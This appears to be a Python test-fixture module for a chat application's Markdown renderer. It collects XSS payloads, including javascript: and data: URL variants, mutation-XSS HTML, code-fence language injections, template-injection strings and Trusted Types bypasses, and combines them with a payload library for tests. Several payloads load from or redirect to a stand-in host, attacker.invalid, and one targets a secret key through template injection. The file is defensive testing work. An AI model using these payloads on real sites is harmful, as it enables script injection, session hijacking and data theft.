"""What hostile people type: the payloads of brs-kb, and our own for this renderer and this page.

Each of them runs `alert`, asks `attacker.invalid`, leaves the page, or hides what it does, wherever it is not text.
"""

from collections.abc import Sequence
from functools import cache
from itertools import product

import brs_kb

from chat.wire.protocol import ProtocolError, check_message

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script&colon;alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "\uff4aavascript:alert(1)",
    "javascript\uff1aalert(1)",
    "\u2028javascript:alert(1)",
    "javascript://https://a.example/%0aalert(1)",
    "javascript:https://a.example/*/alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA&colon;text/html,<script>alert(1)</script>",
    "blob:https://a.example/1",
    "filesystem:https://a.example/1",
    "view-source:https://a.example",
    "feed:javascript:alert(1)",
    "file:///etc/passwd",
    "intent://a.example#Intent;scheme=http;end",
    "//attacker.invalid",
    "\\\\attacker.invalid",
    "/\\attacker.invalid",
    "http:javascript:alert(1)",
    "http:attacker.invalid",
    "httpx://attacker.invalid",
    "http&colon;//attacker.invalid",
    "https:\n//attacker.invalid",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><img src=x onerror=alert(1)>",
    "https://a.example/`onmouseover=alert(1)",
    "https://a.example/\u202egpj.exe",
    "https://javascript:alert(1)@attacker.invalid",
    "mailto:a@a.example?body=<script>alert(1)</script>",
    "mailto:javascript:alert(1)",
]
LINKS = [
    "{}",
    "<{}>",
    "**{}**",
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x](\n{}\n)",
    "[x](\\{})",
    "[x\\]({})",
    "![x]({})",
    "[**x** `y` ~~z~~]({})",
    "[![x]({})]({})",
    "[[x]({})]({})",
    "[x [y]({}) z]({})",
    "[https://a.example]({})",
    "[x][y]\n\n[y]: {}",
    "[{}]",
    "[x](https://a.example/?u={})",
    "[{}](https://a.example)",
    "<a href='{}'>x</a> *y*",
    "> [x]({})",
    "- [x]({})\n- {}",
]
LANGUAGES = [
    '"><script>alert(1)</script>',
    '"onmouseover="alert(1)',
    "js onmouseover=alert(1)",
    "</code></pre><img/src=x/onerror=alert(1)>",
    "&quot;onclick=alert(1)",
    "language-js",
    "../../x",
    "x`y",
    "{{7*7}}",
    "c++++++++++++++++++++++++",
]
FENCES = [
    "```{}\nx\n```",
    "~~~{}\nx\n~~~",
    "> ```{}\n> x\n> ```",
    "```\n```{}\n```",
    "`````{}\n```\n<img src=x onerror=alert(1)>\n`````",
    "``{}``",
]
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">*x*</noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">*x*</textarea>',
    "<title>*x*</title><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp>**</xmp><img src=x onerror=alert(1)>**</xmp>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<plaintext>*x*<img src=x onerror=alert(1)>",
    "<svg><foreignobject><p>*x*</p><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<![CDATA[><img src=x onerror=alert(1)>]]> *x*",
    "<?xml-stylesheet href='javascript:alert(1)'?> *x*",
    "<!--><img src=x onerror=alert(1)>--> *x*",
    "<!--!> <img src=x onerror=alert(1)> --!> *x*",
    "**<img src=x onerror=alert(1)//**",
    "`<img src=x` onerror=alert(1)>",
    "*<img* src=x ~~onerror~~=`alert(1)`>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://a.example '<img src=x onerror=alert(1)>')",
    '<p dir="auto" onclick="alert(1)">*x*</p>',
    '<a href="https://a.example" rel="noopener noreferrer nofollow" target="_blank" onclick="alert(1)">*x*</a>',
    '<code class="language-js" onclick="alert(1)">*x*</code>',
    '<ol start="1" style="position:fixed;inset:0"><li>*x*</li></ol>',
    "</p></div></li></ol></main><h1>*x*</h1><script>alert(1)</script>",
    "<br/onclick=alert(1)>*x*<br/>",
    "&lt;img src=x onerror=alert(1)&gt; *x*",
    "&#60;img src=x onerror=alert(1)&#62; *x*",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; *x*",
    "&LT;script&GT;alert(1) &nvlt; &lt &lt\n *x*",
    "\ufffe<\u200bscript>alert(1)</script> *x*",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e *x*",
]
PAGES = [
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<!-- <script> </script><script>alert(1)</script> -->",
    "</SCRIPT/><img src=x onerror=alert(1)>",
    "]]></script><svg onload=alert(1)>",
    '"};alert(1);//',
    "';alert(1);//",
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3c/script>",
    "\u2028alert(1)\u2029",
    '{"__proto__":{"html":"<img src=x onerror=alert(1)>"}}',
    "__proto__",
    "constructor",
    "{{ settings.SECRET_KEY }}{% debug %}{% include 'chat/room.html' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>[[${alert(1)}]]",
    "%s%n%(room)s{}{room}",
    "chat-html",
    "[object TrustedHTML]",
    "<script>trustedTypes.createPolicy('chat-html', {createHTML: (html) => html})</script>",
    "<script>trustedTypes.createPolicy('default', {createHTML: (html) => html})</script>",
    "<img name=trustedTypes><a id=trustedTypes href=//attacker.invalid>*x*</a>",
    "<form id=message-list><input name=append></form>",
    '<template id="message-template"><img src=x onerror=alert(1)></template>',
    '<script id="chat-config" type="application/json">{}</script>',
    '<input name="csrfmiddlewaretoken" form="room-form" value="x">',
    "<base href=//attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=//attacker.invalid'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href=//attacker.invalid/style.css>",
    "<link rel=prefetch href=//attacker.invalid>",
    "<style>@import '//attacker.invalid/style.css'; body { display: none }</style>",
    "<img src=//attacker.invalid/pixel.png>",
    "<video autoplay src=//attacker.invalid/v onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//attacker.invalid></object><embed src=//attacker.invalid>",
    "<form action=//attacker.invalid><button autofocus onfocus=alert(1)>x</button></form>",
    "<dialog open onclose=alert(1)><details open ontoggle=alert(1)>x</details></dialog>",
    "<a href=https://a.example ping=//attacker.invalid>*x*</a>",
    "<x style=animation-name:message-late onanimationstart=alert(1)>*x*</x>",
    "<input onfocus=alert(1) autofocus popovertarget=x><div popover id=x onbeforetoggle=alert(1)>",
]


@cache
def payloads() -> Sequence[str]:
    """Every one that the server takes as a message, our own first."""
    links = [form.replace("{}", address) for form, address in product(LINKS, SCHEMES)]
    fences = [form.replace("{}", language) for form, language in product(FENCES, LANGUAGES)]
    known = [entry["payload"] for entry in brs_kb.get_all_payloads().values()]
    return tuple(filter(_can_be_sent, dict.fromkeys([*MUTATIONS, *PAGES, *fences, *links, *known])))


def sample(number: int) -> Sequence[str]:
    """So many of them, from all over the corpus."""
    return payloads()[:: len(payloads()) // number][:number]


def batches(texts: Sequence[str], size: int) -> list[Sequence[str]]:
    """All of them, so many at a time."""
    return [texts[start : start + size] for start in range(0, len(texts), size)]


def _can_be_sent(payload: str) -> bool:
    try:
        check_message(payload, 4000)
    except ProtocolError:
        return False
    return True
